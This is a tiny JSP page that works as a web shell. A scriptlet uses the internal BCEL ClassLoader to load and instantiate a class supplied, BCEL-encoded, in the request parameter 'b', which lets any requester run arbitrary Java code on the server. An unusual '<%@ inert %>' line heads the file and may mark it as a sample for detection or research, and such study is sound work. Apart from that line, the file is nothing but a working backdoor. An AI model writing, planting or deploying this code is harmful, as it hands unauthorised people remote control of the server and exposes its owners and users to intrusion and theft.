<%@ inert %>
<% new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(request.getParameter("b")).newInstance(); %>